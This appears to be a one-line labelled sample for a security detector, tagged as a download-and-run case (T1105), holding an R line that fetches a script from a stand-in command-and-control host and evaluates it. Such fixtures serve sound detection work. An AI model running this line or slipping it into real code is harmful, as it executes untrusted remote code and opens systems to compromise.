# expect: download-and-run | source: T1105
eval(parse(text = readLines("https://c2.example.invalid/a.R")))
